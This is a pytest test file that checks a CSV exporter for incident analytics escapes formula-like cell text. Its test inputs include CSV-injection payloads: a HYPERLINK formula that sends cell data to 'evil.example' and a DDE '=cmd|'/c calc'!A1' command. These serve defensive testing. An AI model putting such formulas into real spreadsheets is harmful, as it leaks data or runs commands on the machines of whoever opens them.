"""A table for spreadsheets holds texts and numbers, and nothing that a spreadsheet computes."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from libs.contracts import csv_tables
from libs.contracts.analytics import Noise, NoisyKey, PersonLoad, PriorityHandling, Summary
from libs.contracts.model import Priority

AT = datetime(2026, 11, 1, tzinfo=UTC)


def _noise(key: str, title: str) -> Noise:
    noisy = NoisyKey(dedup_key=key, title=title, incidents=1, alerts=2, untouched=0)
    return Noise(from_=AT, to=AT, keys=(noisy,))


def _read(table: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(table, newline="")))


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_no_text_of_a_sender_is_a_formula(first: str) -> None:
    hostile = f'{first}HYPERLINK("http://evil.example/?"&A1,"look")'
    _, row = _read(csv_tables.of(_noise(hostile, f"{first}1+1")))
    assert (row["dedupKey"], row["title"]) == (f"'{hostile}", f"'{first}1+1")


@pytest.mark.parametrize("between", [";", "\t", "\n", "\r\n", ';"', ' "; ', ";;"])
def test_nor_is_it_where_cells_end_at_other_signs(between: str) -> None:
    _, row = _read(csv_tables.of(_noise(f"disk{between}=cmd|'/c calc'!A1", "load; 5 > 3-2")))
    assert row["dedupKey"] == f"disk{between}'=cmd|'/c calc'!A1"
    assert row["title"] == "load; 5 > 3-2"


@given(st.text(max_size=50), st.text(max_size=50))
def test_whatever_is_in_a_cell_stays_in_it(key: str, title: str) -> None:
    table = csv_tables.of(_noise(key, title))
    assert all(line.count("\r\n") == 0 for line in table.splitlines())
    total, row = _read(table)
    for cell, text in ((row["dedupKey"], key), (row["title"], title)):
        assert cell.replace("'", "") == text.replace("'", "")
        assert not csv_tables._FORMULA.search(cell)
    assert (total["section"], row["section"], row["alerts"]) == ("total", "keys", "2")


def test_each_row_has_every_column_and_says_which_list_it_is_of() -> None:
    summary = Summary(
        from_=AT, to=AT, incidents=3, mtta=1.5,
        by_priority=(PriorityHandling(priority=Priority.HIGH, incidents=3),),
        people=(PersonLoad(user_id=UUID(int=1), pages=2, night_pages=1, incidents=1),),
    )  # fmt: skip
    table = csv_tables.of(summary)
    assert table.endswith("\r\n")
    rows = _read(table)
    assert [row["section"] for row in rows] == ["total", "byPriority", "people"]
    assert (rows[0]["from"], rows[0]["mtta"], rows[0]["mttr"]) == ("2026-11-01T00:00:00Z", "1.5", "")
    assert (rows[1]["priority"], rows[2]["nightPages"], rows[2]["priority"]) == ("high", "1", "")
    assert len({len(line) for line in csv.reader(io.StringIO(table, newline=""))}) == 1
